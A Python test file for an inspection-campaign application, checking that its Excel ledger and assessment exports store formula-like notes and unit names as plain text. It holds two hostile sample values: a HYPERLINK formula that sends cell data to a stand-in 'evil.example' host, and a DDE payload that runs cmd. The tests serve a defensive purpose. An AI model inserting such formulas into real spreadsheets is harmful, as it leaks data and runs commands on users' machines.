"""No workbook the program writes holds a formula: text from notes, names and texts stays text (issue 16)."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from models import Unit
from services import spreadsheets
from services.assessment.export import write_workbook
from services.campaigns.context import load_context
from services.campaigns.loading import get_campaign
from services.inspections.checks import report_rectified
from services.inspections.findings import record_finding
from services.inspections.ledger import export_xlsx
from tests.support.inspections import WANGJING_BUS_STOP, at, lonlat, open_first_phase

EVIL_NOTE = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看整改照片")'
EVIL_UNIT = "=cmd|' /C calc'!A0"


def _formulas(path) -> list[str]:
    """Every cell the workbook stores as a formula, as sheet!cell."""
    book = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _texts(path) -> set[str]:
    book = load_workbook(path)
    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_a_formula_like_string_is_saved_as_text():
    wb = Workbook()
    wb.active.append(["=1+1", "@SUM(A1)", "plain"])
    buf = io.BytesIO()
    spreadsheets.save(wb, buf)
    buf.seek(0)
    assert _formulas(buf) == []
    buf.seek(0)
    assert "=1+1" in _texts(buf)


def test_the_ledger_export_writes_a_formula_like_note_as_text(db, example, tmp_path):
    open_first_phase(db)
    with db.unit_of_work() as s:
        ctx = load_context(s, campaign=get_campaign(s))
        lon, lat = lonlat(WANGJING_BUS_STOP)
        f = record_finding(s, ctx=ctx, category="占道经营", lon=lon, lat=lat, now=at("2025-03-10 09:00"),
                           allow_duplicate=True)
        report_rectified(s, ctx=ctx, finding_id=f.id, now=at("2025-03-11 10:00"), actor="牵头部门", quantity=3,
                         note=EVIL_NOTE)
    path = tmp_path / "ledger.xlsx"
    with db.reader() as s:
        export_xlsx(s, campaign=get_campaign(s), path=path)
    assert _formulas(path) == []


def test_the_assessment_export_writes_a_formula_like_unit_name_and_its_notes_as_text(db, example, tmp_path):
    open_first_phase(db)
    with db.unit_of_work() as s:
        unit = s.scalars(select(Unit).where(Unit.kind == "牵头部门").order_by(Unit.id)).first()
        unit.name = EVIL_UNIT
    path = tmp_path / "kh.xlsx"
    with db.unit_of_work() as s:
        write_workbook(s, campaign=get_campaign(s), path=path, now=at("2025-01-13 08:00"))
    assert _formulas(path) == []
    assert EVIL_UNIT in _texts(path)
